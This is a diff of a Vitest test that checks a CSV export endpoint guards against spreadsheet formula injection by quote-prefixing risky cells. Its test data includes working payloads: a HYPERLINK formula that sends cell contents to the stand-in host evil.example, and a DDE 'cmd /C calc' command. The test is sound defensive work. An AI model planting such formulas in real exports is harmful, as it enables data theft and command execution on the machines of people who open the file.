@@ -2,13 +2,25 @@ import { describe, expect, it } from 'vitest';
 import { setupApp } from './helper';
 import { parseCsv } from './parse-csv';
 
-const HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1', '-2', '@SUM(1+1)', '\tx', '\rx', "=cmd|' /C calc'!A0"];
+const HOSTILE_NAMES = [
+  '=HYPERLINK("http://evil.example/?"&A1,"click")',
+  '+1',
+  '-2',
+  '@SUM(1+1)',
+  '\tx',
+  '\rx',
+  "=cmd|' /C calc'!A0",
+];
 const PLAIN_NAMES = ['Lisbon', "'already quoted", 'a=b', 'Hanoi, "old quarter"', ' =leading space'];
 
 describe('CSV export is safe to open in a spreadsheet', async () => {
   const t = await setupApp();
   const exportRows = async (modelName: string) => {
-    const res = await t.app.inject({ method: 'GET', url: `/api/appmodels/generate-csv?modelName=${modelName}`, headers: t.auth() });
+    const res = await t.app.inject({
+      method: 'GET',
+      url: `/api/appmodels/generate-csv?modelName=${modelName}`,
+      headers: t.auth(),
+    });
     expect(res.statusCode).toBe(200);
     const [head, ...rows] = parseCsv(res.body);
     return rows.map((cells) => Object.fromEntries(head.map((h, i) => [h, cells[i]])));
@@ -17,7 +29,10 @@ describe('CSV export is safe to open in a spreadsheet', async () => {
   it('should prefix text cells that start with = + - @ tab or CR with a quote, and leave other text and numbers alone', async () => {
     // Raw inserts: the API trims names, and a formula can reach the table by any route (imports, other fields).
     for (const name of [...HOSTILE_NAMES, ...PLAIN_NAMES]) {
-      await t.database.raw(`insert into destinations (name, description, total_votes, location) values ($1, $1, -2, '{"lat": -33.9, "lng": 18.4}')`, [name]);
+      await t.database.raw(
+        `insert into destinations (name, description, total_votes, location) values ($1, $1, -2, '{"lat": -33.9, "lng": 18.4}')`,
+        [name],
+      );
     }
     const rows = await exportRows('Destination');
     const byName = new Map(rows.map((r) => [r.name, r]));
@@ -34,7 +49,8 @@ describe('CSV export is safe to open in a spreadsheet', async () => {
     // No exported cell is a formula to a spreadsheet.
     for (const row of rows) {
       for (const [column, cell] of Object.entries(row)) {
-        if (column !== 'totalVotes' && column !== 'id') expect(cell, `${column}: ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r]/);
+        if (column !== 'totalVotes' && column !== 'id')
+          expect(cell, `${column}: ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r]/);
       }
     }
   });
